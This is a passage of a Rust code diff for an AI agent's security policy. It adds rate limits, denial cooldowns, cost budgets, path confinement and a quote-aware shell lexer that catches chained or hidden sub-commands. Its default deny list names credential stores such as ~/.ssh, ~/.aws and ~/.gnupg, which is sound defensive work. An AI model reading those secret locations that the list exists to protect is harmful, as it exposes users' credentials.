-                        if chars.next_if_eq(&'|').is_some() {
-                            // Consume full `||`; both characters are separators.
-                        }
-                        push_segment(&mut segments, &mut current);
-                    }
-                    '&' => {
-                        if chars.next_if_eq(&'&').is_some() {
-                            // `&&` is a separator; single `&` is handled separately.
-                            push_segment(&mut segments, &mut current);
-                        } else {
-                            current.push(ch);
-                        }
-                    }
-                    _ => current.push(ch),
-                }
-            }
+impl ActionCount<'_> {
+    /// Actions the bucket still holds against the agent: its burst
+    /// capacity less the tokens left.
+    pub fn count(&self) -> usize {
+        let spent = self
+            .policy
+            .burst_capacity()
+            .saturating_sub(self.policy.remaining_actions());
+        usize::try_from(spent).unwrap_or(usize::MAX)
+    }
+}
+
+fn unix_millis(time: SystemTime) -> u64 {
+    time.duration_since(UNIX_EPOCH).map_or(0, |elapsed| {
+        u64::try_from(elapsed.as_millis()).unwrap_or(u64::MAX)
+    })
+}
+
+/// Hourly [`ActionTracker`]s keyed by tool name, created on first use for
+/// tools that have an entry in `per_tool_limits`.
+#[derive(Debug, Default)]
+pub struct ToolActionTrackers {
+    trackers: Mutex<HashMap<String, ActionTracker>>,
+}
+
+impl ToolActionTrackers {
+    /// Record an action for `tool` and return its count within the window.
+    pub fn record(&self, tool: &str) -> usize {
+        self.trackers
+            .lock()
+            .entry(tool.to_ascii_lowercase())
+            .or_insert_with(ActionTracker::new)
+            .record()
+    }
+
+    /// Count of actions for `tool` in the current window without recording.
+    pub fn count(&self, tool: &str) -> usize {
+        self.trackers
+            .lock()
+            .get(&tool.to_ascii_lowercase())
+            .map_or(0, ActionTracker::count)
+    }
+
+    /// [`ActionTracker::retry_after`] for `tool`.
+    pub fn retry_after(&self, tool: &str, limit: usize) -> Option<Duration> {
+        self.trackers
+            .lock()
+            .get(&tool.to_ascii_lowercase())
+            .and_then(|tracker| tracker.retry_after(limit))
+    }
+}
+
+/// How long a session may go without an action before it counts as
+/// finished and [`SessionActionCounts`] forgets it.
+pub const SESSION_IDLE_TIMEOUT: Duration = Duration::from_secs(24 * 3600);
+
+/// Lifetime action counts keyed by conversation session, for
+/// `max_actions_per_session`. Sessions idle for longer than the idle
+/// timeout are dropped, so long-running channels do not keep a count for
+/// every conversation they ever had.
+#[derive(Debug)]
+pub struct SessionActionCounts {
+    counts: Mutex<HashMap<String, SessionCount>>,
+    idle_timeout: Duration,
+}
+
+#[derive(Debug, Clone, Copy)]
+struct SessionCount {
+    actions: u32,
+    last_action: Instant,
+}
+
+impl SessionActionCounts {
+    pub fn with_idle_timeout(idle_timeout: Duration) -> Self {
+        Self {
+            counts: Mutex::new(HashMap::new()),
+            idle_timeout,
         }
     }
 
-    let trimmed = current.trim();
-    if !trimmed.is_empty() {
-        segments.push(trimmed.to_string());
+    /// Record an action for `session` and return its new count.
+    pub fn record(&self, session: &str) -> u32 {
+        let mut counts = self.counts.lock();
+        self.evict_finished(&mut counts);
+        let count = counts.entry(session.to_string()).or_insert(SessionCount {
+            actions: 0,
+            last_action: Instant::now(),
+        });
+        count.actions = count.actions.saturating_add(1);
+        count.last_action = Instant::now();
+        count.actions
     }
 
-    segments
+    pub fn count(&self, session: &str) -> u32 {
+        let mut counts = self.counts.lock();
+        self.evict_finished(&mut counts);
+        counts.get(session).map_or(0, |count| count.actions)
+    }
+
+    /// Sessions with a count, finished ones excluded.
+    pub fn len(&self) -> usize {
+        let mut counts = self.counts.lock();
+        self.evict_finished(&mut counts);
+        counts.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+
+    fn evict_finished(&self, counts: &mut HashMap<String, SessionCount>) {
+        counts.retain(|_, count| count.last_action.elapsed() < self.idle_timeout);
+    }
 }
 
-/// Detect a single unquoted `&` operator (background/chain). `&&` is allowed.
-///
-/// We treat any standalone `&` as unsafe in policy validation because it can
-/// chain hidden sub-commands and escape foreground timeout expectations.
-fn contains_unquoted_single_ampersand(command: &str) -> bool {
-    let mut quote = QuoteState::None;
-    let mut escaped = false;
-    let mut chars = command.chars().peekable();
+impl Default for SessionActionCounts {
+    fn default() -> Self {
+        Self::with_idle_timeout(SESSION_IDLE_TIMEOUT)
+    }
+}
 
-    while let Some(ch) = chars.next() {
-        match quote {
-            QuoteState::Single => {
-                if ch == '\'' {
-                    quote = QuoteState::None;
-                }
-            }
-            QuoteState::Double => {
-                if escaped {
-                    escaped = false;
-                    continue;
-                }
-                if ch == '\\' {
-                    escaped = true;
-                    continue;
-                }
-                if ch == '"' {
-                    quote = QuoteState::None;
-                }
-            }
-            QuoteState::None => {
-                if escaped {
-                    escaped = false;
-                    continue;
-                }
-                if ch == '\\' {
-                    escaped = true;
-                    continue;
-                }
-                match ch {
-                    '\'' => quote = QuoteState::Single,
-                    '"' => quote = QuoteState::Double,
-                    '&' => {
-                        if chars.next_if_eq(&'&').is_none() {
-                            return true;
-                        }
-                    }
-                    _ => {}
-                }
-            }
+/// Consecutive policy denials per tool, for the denial cooldown.
+#[derive(Debug, Default)]
+pub struct DenialStreaks {
+    streaks: Mutex<HashMap<String, DenialStreak>>,
+}
+
+#[derive(Debug, Clone, Default)]
+struct DenialStreak {
+    denials: u32,
+    last_reason: String,
+    cooling_until: Option<Instant>,
+}
+
+impl DenialStreaks {
+    /// The denial to return while `tool` is cooling down.
+    pub fn cooldown(&self, tool: &str) -> Option<PolicyDenial> {
+        let streaks = self.streaks.lock();
+        let streak = streaks.get(&tool.to_ascii_lowercase())?;
+        let retry_after = streak
+            .cooling_until?
+            .saturating_duration_since(Instant::now());
+        (!retry_after.is_zero()).then(|| PolicyDenial::Cooldown {
+            tool: tool.to_string(),
+            denials: streak.denials,
+            reason: streak.last_reason.clone(),
+            retry_after,
+        })
+    }
+
+    /// Count a denial of `tool` for `reason`. From the `after`th denial in a
+    /// row on, each one starts a cooldown of `base`, doubled per denial
+    /// beyond `after` and capped at `max`; returns it with the streak length
+    /// when one starts.
+    pub fn record_denial(
+        &self,
+        tool: &str,
+        reason: &str,
+        after: u32,
+        base: Duration,
+        max: Duration,
+    ) -> Option<(u32, Duration)> {
+        let mut streaks = self.streaks.lock();
+        let streak = streaks.entry(tool.to_ascii_lowercase()).or_default();
+        streak.denials = streak.denials.saturating_add(1);
+        streak.last_reason = reason.to_string();
+        if after == 0 || streak.denials < after {
+            return None;
         }
+        let doublings = (streak.denials - after).min(16);
+        let cooldown = base.saturating_mul(1 << doublings).min(max);
+        streak.cooling_until = Some(Instant::now() + cooldown);
+        Some((streak.denials, cooldown))
     }
 
-    false
+    /// End `tool`'s streak after an allowed call.
+    pub fn clear(&self, tool: &str) {
+        self.streaks.lock().remove(&tool.to_ascii_lowercase());
+    }
 }
 
-/// Detect an unquoted character in a shell command.
-fn contains_unquoted_char(command: &str, target: char) -> bool {
-    let mut quote = QuoteState::None;
-    let mut escaped = false;
+impl Clone for DenialStreaks {
+    fn clone(&self) -> Self {
+        Self {
+            streaks: Mutex::new(self.streaks.lock().clone()),
+        }
+    }
+}
 
-    for ch in command.chars() {
-        match quote {
-            QuoteState::Single => {
-                if ch == '\'' {
-                    quote = QuoteState::None;
-                }
-            }
-            QuoteState::Double => {
-                if escaped {
-                    escaped = false;
-                    continue;
-                }
-                if ch == '\\' {
-                    escaped = true;
-                    continue;
-                }
-                if ch == '"' {
-                    quote = QuoteState::None;
-                }
-            }
-            QuoteState::None => {
-                if escaped {
-                    escaped = false;
-                    continue;
-                }
-                if ch == '\\' {
-                    escaped = true;
-                    continue;
-                }
-                match ch {
-                    '\'' => quote = QuoteState::Single,
-                    '"' => quote = QuoteState::Double,
-                    _ if ch == target => return true,
-                    _ => {}
-                }
-            }
+impl Clone for SessionActionCounts {
+    fn clone(&self) -> Self {
+        Self {
+            counts: Mutex::new(self.counts.lock().clone()),
+            idle_timeout: self.idle_timeout,
         }
     }
+}
 
-    false
+/// Held while a call's action budgets are checked and charged, so two calls
+/// cannot both pass the check for the last slot. Clones share the lock.
+#[derive(Debug, Clone, Default)]
+pub struct ChargeLock(Arc<Mutex<()>>);
+
+impl Clone for ToolActionTrackers {
+    fn clone(&self) -> Self {
+        Self {
+            trackers: Mutex::new(self.trackers.lock().clone()),
+        }
+    }
 }
 
-/// Detect unquoted shell variable expansions like `$HOME`, `$1`, `$?`.
-///
-/// Escaped dollars (`\$`) are ignored. Variables inside single quotes are
-/// treated as literals and therefore ignored.
-fn contains_unquoted_shell_variable_expansion(command: &str) -> bool {
-    let mut quote = QuoteState::None;
-    let mut escaped = false;
-    let chars: Vec<char> = command.chars().collect();
+/// Sliding 24-hour window of LLM usage for the daily token and cost budgets.
+#[derive(Debug, Default)]
+pub struct LlmUsageTracker {
+    entries: Mutex<Vec<LlmUsage>>,
+}
 
-    for i in 0..chars.len() {
-        let ch = chars[i];
+#[derive(Debug, Clone, Copy)]
+struct LlmUsage {
+    at: Instant,
+    tokens: u64,
+    cost_usd: f64,
+}
 
+impl LlmUsageTracker {
+    /// Record one LLM call.
+    pub fn record(&self, tokens: u64, cost_usd: f64) {
+        let mut entries = self.entries.lock();
+        Self::prune(&mut entries);
+        entries.push(LlmUsage {
+            at: Instant::now(),
+            tokens,
+            cost_usd,
+        });
+    }
+
+    /// Tokens and USD spent within the window.
+    pub fn totals(&self) -> (u64, f64) {
+        let mut entries = self.entries.lock();
+        Self::prune(&mut entries);
+        entries.iter().fold((0, 0.0), |(tokens, cost), usage| {
+            (tokens.saturating_add(usage.tokens), cost + usage.cost_usd)
+        })
+    }
+
+    fn prune(entries: &mut Vec<LlmUsage>) {
+        let cutoff = Instant::now()
+            .checked_sub(LLM_BUDGET_WINDOW)
+            .unwrap_or_else(Instant::now);
+        entries.retain(|usage| usage.at > cutoff);
+    }
+}
+
+impl Clone for ActionTracker {
+    fn clone(&self) -> Self {
+        let actions = self.actions.lock();
+        Self {
+            actions: Mutex::new(actions.clone()),
+            window: self.window,
+        }
+    }
+}
+
+/// Security policy enforced on all tool executions
+#[derive(Debug, Clone)]
+pub struct SecurityPolicy {
+    pub autonomy: AutonomyLevel,
+    pub workspace_dir: PathBuf,
+    pub workspace_only: bool,
+    pub allowed_commands: Vec<String>,
+    pub command_context_rules: Vec<CommandContextRule>,
+    pub forbidden_paths: Vec<String>,
+    pub allowed_roots: Vec<PathBuf>,
+    /// Refill rate of the global action bucket.
+    pub max_actions_per_hour: u32,
+    /// Capacity of the global action bucket (0 = `max_actions_per_hour`).
+    pub max_actions_burst: u32,
+    /// Cap on actions per conversation session (0 = unlimited).
+    pub max_actions_per_session: u32,
+    /// Cap on one tool call's JSON arguments in bytes (0 = unlimited).
+    pub max_tool_input_bytes: usize,
+    /// Cap on one tool result in bytes before truncation (0 = unlimited).
+    pub max_tool_output_bytes: usize,
+    /// Denials of one tool in a row before it cools down (0 = never).
+    pub denial_cooldown_after: u32,
+    /// First denial cooldown, doubled per further denial.
+    pub denial_cooldown: Duration,
+    /// Longest denial cooldown.
+    pub denial_cooldown_max: Duration,
+    pub max_cost_per_day_cents: u32,
+    pub require_approval_for_medium_risk: bool,
+    pub block_high_risk_commands: bool,
+    pub shell_env_passthrough: Vec<String>,
+    /// Uppercase name suffixes never passed to tool subprocesses. Checked
+    /// through [`Self::env_filter`].
+    pub env_secret_suffixes: Vec<String>,
+    pub allow_sensitive_file_reads: bool,
+    pub allow_sensitive_file_writes: bool,
+    /// Cap on total memory content the agent may hold (0 = unlimited).
+    pub max_memory_bytes: u64,
+    /// Cap on memory entries the agent may write per day (0 = unlimited).
+    pub max_memory_entries_per_day: u32,
+    /// Cap on LLM tokens per 24 hours before degrading to read-only (0 = unlimited).
+    pub max_tokens_per_day: u64,
+    /// Cap on estimated LLM spend per 24 hours before degrading to read-only (0 = unlimited).
+    pub max_cost_usd_per_day: f64,
+    /// Whether memory git sync may push to its remote.
+    pub allow_memory_push: bool,
+    /// Tools the agent may run; empty allows every tool not denied.
+    pub allowed_tools: Vec<String>,
+    /// Tools the agent may never run. Wins over `allowed_tools`.
+    pub denied_tools: Vec<String>,
+    /// Hosts network tools may connect to; empty allows every host not denied.
+    /// Checked through [`Self::egress`].
+    pub allowed_hosts: Vec<String>,
+    /// Hosts network tools may never connect to. Wins over `allowed_hosts`.
+    pub denied_hosts: Vec<String>,
+    /// Hourly caps for individual tools, keyed by lowercase tool name. Each
+    /// applies on top of `max_actions_per_hour`.
+    pub per_tool_limits: HashMap<String, u32>,
+    /// Permissions for workspace-relative path prefixes, longest prefix
+    /// first. Checked through [`Self::check_path_writable`].
+    pub path_permissions: Vec<(PathBuf, PathPermission)>,
+    /// Hours outside which the agent may not act (`None` = always open).
+    pub operating_window: Option<OperatingWindow>,
+    /// Banned flags, runtime cap, and working directories for shell commands.
+    pub command_policy: CommandPolicy,
+    /// Validate `Act` operations but simulate them instead of running them.
+    pub dry_run: bool,
+    /// Asked before each `Act` operation in supervised mode; see
+    /// [`Self::request_approval`].
+    pub approval_hook: Option<Arc<dyn ApprovalHook>>,
+    /// Requests the approval hook has not answered yet. Clones share it.
+    pub pending_approvals: PendingApprovals,
+    /// Records each call of the [`default_tools`](crate::tools::default_tools)
+    /// registry built over this policy. `all_tools` uses
+    /// `[security.audit]` instead.
+    pub audit_logger: Option<Arc<AuditLogger>>,
+    /// Token bucket for `max_actions_per_hour` / `max_actions_burst`. The
+    /// trackers below are shared by clones, like `llm_usage`, so every
+    /// version of a reloaded policy draws on the same budgets.
+    pub action_bucket: Arc<ActionBucket>,
+    /// Per-tool windows for `per_tool_limits`.
+    pub tool_trackers: Arc<ToolActionTrackers>,
+    /// Per-session counts for `max_actions_per_session`.
+    pub session_actions: Arc<SessionActionCounts>,
+    /// Serializes the check-then-charge of the three budgets above.
+    pub charge_lock: ChargeLock,
+    /// Per-tool denial streaks for `denial_cooldown_after`.
+    pub denial_streaks: Arc<DenialStreaks>,
+    /// Memory writes in the last 24 hours.
+    pub memory_write_tracker: Arc<ActionTracker>,
+    /// LLM usage in the last 24 hours, fed by the provider observer. Shared
+    /// by clones: the daily budget covers every copy of the policy.
+    pub llm_usage: Arc<LlmUsageTracker>,
+    /// Directory for policy state the agent must not edit, outside the
+    /// workspace and refused to every tool: the action bucket level and
+    /// escalation grants. Set by [`Self::from_root_config`]; `None` keeps the
+    /// bucket level in memory only and allows no escalations.
+    pub state_dir: Option<PathBuf>,
+    /// Memory encryption key file (`[memory] encrypt_at_rest`), refused to
+    /// every tool like policy state. Set by [`Self::from_root_config`].
+    pub memory_key_file: Option<PathBuf>,
+}
+
+impl Default for SecurityPolicy {
+    fn default() -> Self {
+        Self {
+            autonomy: AutonomyLevel::Supervised,
+            workspace_dir: PathBuf::from("."),
+            workspace_only: true,
+            allowed_commands: vec![
+                "git".into(),
+                "npm".into(),
+                "cargo".into(),
+                "mkdir".into(),
+                "touch".into(),
+                "cp".into(),
+                "mv".into(),
+                "ls".into(),
+                "cat".into(),
+                "grep".into(),
+                "find".into(),
+                "echo".into(),
+                "pwd".into(),
+                "wc".into(),
+                "head".into(),
+                "tail".into(),
+                "date".into(),
+            ],
+            command_context_rules: Vec::new(),
+            forbidden_paths: vec![
+                // System directories (blocked even when workspace_only=false)
+                "/etc".into(),
+                "/root".into(),
+                "/home".into(),
+                "/usr".into(),
+                "/bin".into(),
+                "/sbin".into(),
+                "/lib".into(),
+                "/opt".into(),
+                "/boot".into(),
+                "/dev".into(),
+                "/proc".into(),
+                "/sys".into(),
+                "/var".into(),
+                "/tmp".into(),
+                "/mnt".into(),
+                // Sensitive dotfiles
+                "~/.ssh".into(),
+                "~/.gnupg".into(),
+                "~/.aws".into(),
+                "~/.config".into(),
+            ],
+            allowed_roots: Vec::new(),
+            max_actions_per_hour: 100,
+            max_actions_burst: 0,
+            max_actions_per_session: 0,
+            max_tool_input_bytes: 1_048_576,
+            max_tool_output_bytes: 1_048_576,
+            denial_cooldown_after: 3,
+            denial_cooldown: Duration::from_secs(30),
+            denial_cooldown_max: Duration::from_secs(900),
+            max_cost_per_day_cents: 1000,
+            require_approval_for_medium_risk: true,
+            block_high_risk_commands: true,
+            shell_env_passthrough: vec![],
+            env_secret_suffixes: super::env_filter::DEFAULT_SECRET_ENV_SUFFIXES
+                .iter()
+                .map(|suffix| (*suffix).to_string())
+                .collect(),
+            allow_sensitive_file_reads: false,
+            allow_sensitive_file_writes: false,
+            max_memory_bytes: 0,
+            max_memory_entries_per_day: 0,
+            max_tokens_per_day: 0,
+            max_cost_usd_per_day: 0.0,
+            allow_memory_push: false,
+            allowed_tools: Vec::new(),
+            denied_tools: Vec::new(),
+            allowed_hosts: Vec::new(),
+            denied_hosts: Vec::new(),
+            per_tool_limits: HashMap::new(),
+            path_permissions: Vec::new(),
+            operating_window: None,
+            command_policy: CommandPolicy::default(),
+            dry_run: false,
+            approval_hook: None,
+            pending_approvals: PendingApprovals::default(),
+            audit_logger: None,
+            action_bucket: Arc::new(ActionBucket::new()),
+            tool_trackers: Arc::default(),
+            session_actions: Arc::default(),
+            charge_lock: ChargeLock::default(),
+            denial_streaks: Arc::default(),
+            memory_write_tracker: Arc::new(ActionTracker::with_window(MEMORY_QUOTA_WINDOW)),
+            llm_usage: Arc::default(),
+            state_dir: None,
+            memory_key_file: None,
+        }
+    }
+}
+
+/// Trim tool allow/deny entries and drop blank ones.
+pub(super) fn normalize_tool_rules(rules: &[String]) -> Vec<String> {
+    rules
+        .iter()
+        .map(|rule| rule.trim())
+        .filter(|rule| !rule.is_empty())
+        .map(ToOwned::to_owned)
+        .collect()
+}
+
+pub(super) fn normalize_host_rules(rules: &[String]) -> Vec<String> {
+    rules
+        .iter()
+        .map(|rule| rule.trim().to_ascii_lowercase())
+        .filter(|rule| !rule.is_empty())
+        .collect()
+}
+
+/// Workspace-relative prefixes with `.` components dropped, sorted so the
+/// longest prefix comes first.
+pub(super) fn normalize_path_permissions(
+    rules: &HashMap<String, PathPermission>,
+) -> Vec<(PathBuf, PathPermission)> {
+    let mut normalized: Vec<(PathBuf, PathPermission)> = rules
+        .iter()
+        .map(|(prefix, permission)| {
+            let prefix = Path::new(prefix.trim())
+                .components()
+                .filter(|component| !matches!(component, std::path::Component::CurDir))
+                .collect();
+            (prefix, *permission)
+        })
+        .collect();
+    normalized.sort_by(|(a, _), (b, _)| {
+        b.components()
+            .count()
+            .cmp(&a.components().count())
+            .then_with(|| a.cmp(b))
+    });
+    normalized
+}
+
+fn home_dir() -> Option<PathBuf> {
+    std::env::var_os("HOME").map(PathBuf::from)
+}
+
+fn expand_user_path(path: &str) -> PathBuf {
+    if path == "~" {
+        if let Some(home) = home_dir() {
+            return home;
+        }
+    }
+
+    if let Some(stripped) = path.strip_prefix("~/") {
+        if let Some(home) = home_dir() {
+            return home.join(stripped);
+        }
+    }
+
+    PathBuf::from(path)
+}
+
+// ── Shell Command Parsing Utilities ───────────────────────────────────────
+// These helpers implement a minimal quote-aware shell lexer. They exist
+// because security validation must reason about the *structure* of a
+// command (separators, operators, quoting) rather than treating it as a
+// flat string — otherwise an attacker could hide dangerous sub-commands
+// inside quoted arguments or chained operators.
+/// Skip leading environment variable assignments (e.g. `FOO=bar cmd args`).
+/// Returns the remainder starting at the first non-assignment word.
+fn skip_env_assignments(s: &str) -> &str {
+    let mut rest = s;
+    loop {
+        let Some(word) = rest.split_whitespace().next() else {
+            return rest;
+        };
+        // Environment assignment: contains '=' and starts with a letter or underscore
+        if word.contains('=')
+            && word
+                .chars()
+                .next()
+                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        {
+            // Advance past this word
+            rest = rest[word.len()..].trim_start();
+        } else {
+            return rest;
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum QuoteState {
+    None,
+    Single,
+    Double,
+}
+
+/// Split a shell command into sub-commands by unquoted separators.
+///
+/// Separators:
+/// - `;` and newline
+/// - `|`
+/// - `&&`, `||`
+///
+/// Characters inside single or double quotes are treated as literals, so
+/// `sqlite3 db "SELECT 1; SELECT 2;"` remains a single segment.
+fn split_unquoted_segments(command: &str) -> Vec<String> {
+    let mut segments = Vec::new();
+    let mut current = String::new();
+    let mut quote = QuoteState::None;
+    let mut escaped = false;
+    let mut chars = command.chars().peekable();
+
+    let push_segment = |segments: &mut Vec<String>, current: &mut String| {
+        let trimmed = current.trim();
+        if !trimmed.is_empty() {
+            segments.push(trimmed.to_string());
+        }
+        current.clear();
+    };
+
+    while let Some(ch) = chars.next() {
         match quote {
             QuoteState::Single => {
                 if ch == '\'' {
                     quote = QuoteState::None;
                 }
-                continue;
+                current.push(ch);
             }
             QuoteState::Double => {
                 if escaped {
                     escaped = false;
+                    current.push(ch);
                     continue;
                 }
                 if ch == '\\' {
                     escaped = true;
+                    current.push(ch);
                     continue;
                 }
                 if ch == '"' {
                     quote = QuoteState::None;
-                    continue;
                 }
+                current.push(ch);
             }
             QuoteState::None => {
                 if escaped {
                     escaped = false;
+                    current.push(ch);
                     continue;
                 }
                 if ch == '\\' {
                     escaped = true;
+                    current.push(ch);
                     continue;
                 }
-                if ch == '\'' {
-                    quote = QuoteState::Single;
-                    continue;
-                }
-                if ch == '"' {
-                    quote = QuoteState::Double;
-                    continue;
+
+                match ch {
+                    '\'' => {
+                        quote = QuoteState::Single;
+                        current.push(ch);
+                    }
+                    '"' => {
+                        quote = QuoteState::Double;
+                        current.push(ch);
+                    }
+                    ';' | '\n' => push_segment(&mut segments, &mut current),
+                    '|' => {
+                        if chars.next_if_eq(&'|').is_some() {
+                            // Consume full `||`; both characters are separators.
+                        }
+                        push_segment(&mut segments, &mut current);
+                    }
+                    '&' => {
+                        if chars.next_if_eq(&'&').is_some() {
+                            // `&&` is a separator; single `&` is handled separately.
+                            push_segment(&mut segments, &mut current);
+                        } else {
+                            current.push(ch);
+                        }
+                    }
+                    _ => current.push(ch),
                 }
             }
         }
-
-        if ch != '$' {
-            continue;
-        }
-
-        let Some(next) = chars.get(i + 1).copied() else {
-            continue;
-        };
-        if next.is_ascii_alphanumeric()
-            || matches!(
-                next,
-                '_' | '{' | '(' | '#' | '?' | '!' | '$' | '*' | '@' | '-'
-            )
-        {
-            return true;
-        }
     }
 
-    false
-}
+    let trimmed = current.trim();
+    if !trimmed.is_empty() {
+        segments.push(trimmed.to_string());
+    }
 
-fn strip_wrapping_quotes(token: &str) -> &str {
-    token.trim_matches(|c| c == '"' || c == '\'')
+    segments
 }
 
-fn looks_like_path(candidate: &str) -> bool {
-    candidate.starts_with('/')
+/// Detect a single unquoted `&` operator (background/chain). `&&` is allowed.
+///
+/// We treat any standalone `&` as unsafe in policy validation because it can
+/// chain hidden sub-commands and escape foreground timeout expectations.
+fn contains_unquoted_single_ampersand(command: &str) -> bool {
+    let mut quote = QuoteState::None;
+    let mut escaped = false;
+    let mut chars = command.chars().peekable();
+
+    while let Some(ch) = chars.next() {
+        match quote {
+            QuoteState::Single => {
+                if ch == '\'' {
+                    quote = QuoteState::None;
+                }
+            }
+            QuoteState::Double => {
+                if escaped {
+                    escaped = false;
+                    continue;
+                }
+                if ch == '\\' {
+                    escaped = true;
+                    continue;
+                }
+                if ch == '"' {
+                    quote = QuoteState::None;
+                }
+            }
+            QuoteState::None => {
+                if escaped {
+                    escaped = false;
+                    continue;
+                }
+                if ch == '\\' {
+                    escaped = true;
+                    continue;
+                }
+                match ch {
+                    '\'' => quote = QuoteState::Single,
+                    '"' => quote = QuoteState::Double,
+                    '&' => {
+                        if chars.next_if_eq(&'&').is_none() {
+                            return true;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        }
+    }
+
+    false
+}
+
+/// Detect an unquoted character in a shell command.
+fn contains_unquoted_char(command: &str, target: char) -> bool {
+    let mut quote = QuoteState::None;
+    let mut escaped = false;
+
+    for ch in command.chars() {
+        match quote {
+            QuoteState::Single => {
+                if ch == '\'' {
+                    quote = QuoteState::None;
+                }
+            }
+            QuoteState::Double => {
+                if escaped {
+                    escaped = false;
+                    continue;
+                }
+                if ch == '\\' {
+                    escaped = true;
+                    continue;
+                }
+                if ch == '"' {
+                    quote = QuoteState::None;
+                }
+            }
+            QuoteState::None => {
+                if escaped {
+                    escaped = false;
+                    continue;
+                }
+                if ch == '\\' {
+                    escaped = true;
+                    continue;
+                }
+                match ch {
+                    '\'' => quote = QuoteState::Single,
+                    '"' => quote = QuoteState::Double,
+                    _ if ch == target => return true,
+                    _ => {}
+                }
+            }
+        }
+    }
+
+    false
+}
+
+/// Detect unquoted shell variable expansions like `$HOME`, `$1`, `$?`.
+///
+/// Escaped dollars (`\$`) are ignored. Variables inside single quotes are
+/// treated as literals and therefore ignored.
+fn contains_unquoted_shell_variable_expansion(command: &str) -> bool {
+    let mut quote = QuoteState::None;
+    let mut escaped = false;
+    let chars: Vec<char> = command.chars().collect();
+
+    for i in 0..chars.len() {
+        let ch = chars[i];
+
+        match quote {
+            QuoteState::Single => {
+                if ch == '\'' {
+                    quote = QuoteState::None;
+                }
+                continue;
+            }
+            QuoteState::Double => {
+                if escaped {
+                    escaped = false;
+                    continue;
+                }
+                if ch == '\\' {
+                    escaped = true;
+                    continue;
+                }
+                if ch == '"' {
+                    quote = QuoteState::None;
+                    continue;
+                }
+            }
+            QuoteState::None => {
+                if escaped {
+                    escaped = false;
+                    continue;
+                }
+                if ch == '\\' {
+                    escaped = true;
+                    continue;
+                }
+                if ch == '\'' {
+                    quote = QuoteState::Single;
+                    continue;
+                }
+                if ch == '"' {
+                    quote = QuoteState::Double;
+                    continue;
+                }
+            }
+        }
+
+        if ch != '$' {
+            continue;
+        }
+
+        let Some(next) = chars.get(i + 1).copied() else {
+            continue;
+        };
+        if next.is_ascii_alphanumeric()
+            || matches!(
+                next,
+                '_' | '{' | '(' | '#' | '?' | '!' | '$' | '*' | '@' | '-'
+            )
+        {
+            return true;
+        }
+    }
+
+    false
+}
+
+fn strip_wrapping_quotes(token: &str) -> &str {
+    token.trim_matches(|c| c == '"' || c == '\'')
+}
+
+fn looks_like_path(candidate: &str) -> bool {
+    candidate.starts_with('/')
         || candidate.starts_with("./")
         || candidate.starts_with("../")
         || candidate.starts_with('~')
@@ -659,6 +1799,116 @@ impl SecurityPolicy {
         }
     }
 
+    /// Resolve an existing file or directory a tool is about to read and
+    /// confine it to the workspace (or `allowed_roots`).
+    ///
+    /// Runs the lexical [`Self::is_path_allowed`] check, canonicalizes so
+    /// symlinks anywhere in the path are followed, then checks the real
+    /// location with [`Self::is_resolved_path_allowed`]. File tools should
+    /// use this rather than chaining those steps themselves. Canonicalizing
+    /// runs on tokio's blocking pool, so a slow filesystem does not stall
+    /// the runtime.
+    pub async fn resolve_in_workspace(&self, path: &str) -> Result<PathBuf, String> {
+        let full_path = self.lexically_checked_path(path)?;
+        let resolved = tokio::fs::canonicalize(&full_path).await.map_err(|e| {
+            if e.kind() == std::io::ErrorKind::NotFound {
+                format!("Failed to resolve file path: {path} not found")
+            } else {
+                format!("Failed to resolve file path: {e}")
+            }
+        })?;
+        self.confine_resolved(resolved)
+    }
+
+    /// Like [`Self::resolve_in_workspace`] for a file a tool is about to
+    /// create or overwrite. The file and its parent directories need not
+    /// exist: the nearest existing ancestor is canonicalized and the rest is
+    /// appended. The final component is not followed, so callers still
+    /// decide how to treat an existing symlink at the target. Targets that
+    /// `path_permissions` does not make writable are refused.
+    pub async fn resolve_write_target(&self, path: &str) -> Result<PathBuf, String> {
+        let full_path = self.lexically_checked_path(path)?;
+        let (Some(parent), Some(file_name)) = (full_path.parent(), full_path.file_name()) else {
+            return Err("Invalid path: missing file name".into());
+        };
+
+        let mut existing = parent;
+        let mut missing = Vec::new();
+        let resolved_parent = loop {
+            match tokio::fs::canonicalize(existing).await {
+                Ok(resolved) => break resolved,
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+                    let (Some(up), Some(name)) = (existing.parent(), existing.file_name()) else {
+                        return Err(format!("Failed to resolve file path: {e}"));
+                    };
+                    missing.push(name);
+                    existing = up;
+                }
+                Err(e) => return Err(format!("Failed to resolve file path: {e}")),
+            }
+        };
+
+        let resolved_parent = missing
+            .into_iter()
+            .rev()
+            .fold(resolved_parent, |dir, name| dir.join(name));
+        let resolved = self.confine_resolved(resolved_parent.join(file_name))?;
+        self.check_path_writable(&resolved)?;
+        Ok(resolved)
+    }
+
+    /// Permission `path_permissions` grants for a resolved path. The longest
+    /// matching workspace-relative prefix wins; paths no entry covers, and
+    /// paths outside the workspace, are writable.
+    pub fn path_permission(&self, resolved: &Path) -> PathPermission {
+        let workspace_root = self
+            .workspace_dir
+            .canonicalize()
+            .unwrap_or_else(|_| self.workspace_dir.clone());
+        let Ok(relative) = resolved
+            .strip_prefix(&workspace_root)
+            .or_else(|_| resolved.strip_prefix(&self.workspace_dir))
+        else {
+            return PathPermission::Write;
+        };
+        self.path_permissions
+            .iter()
+            .find(|(prefix, _)| relative.starts_with(prefix))
+            .map_or(PathPermission::Write, |(_, permission)| *permission)
+    }
+
+    /// Refuse writes to `resolved` unless `path_permissions` allows them.
+    /// [`Self::resolve_write_target`] already runs this check.
+    pub fn check_path_writable(&self, resolved: &Path) -> Result<(), String> {
+        match self.path_permission(resolved) {
+            PathPermission::Write => Ok(()),
+            PathPermission::Read => Err(format!(
+                "Security policy: {} is read-only under autonomy.path_permissions",
+                resolved.display()
+            )),
+            PathPermission::ProposeOnly => Err(format!(
+                "Security policy: {} is propose-only under autonomy.path_permissions; \
+                 describe the change for an operator to apply instead of writing it",
+                resolved.display()
+            )),
+        }
+    }
+
+    fn lexically_checked_path(&self, path: &str) -> Result<PathBuf, String> {
+        if !self.is_path_allowed(path) {
+            return Err(format!("Path not allowed by security policy: {path}"));
+        }
+        Ok(self.resolve_user_supplied_path(path))
+    }
+
+    fn confine_resolved(&self, resolved: PathBuf) -> Result<PathBuf, String> {
+        if self.is_resolved_path_allowed(&resolved) {
+            Ok(resolved)
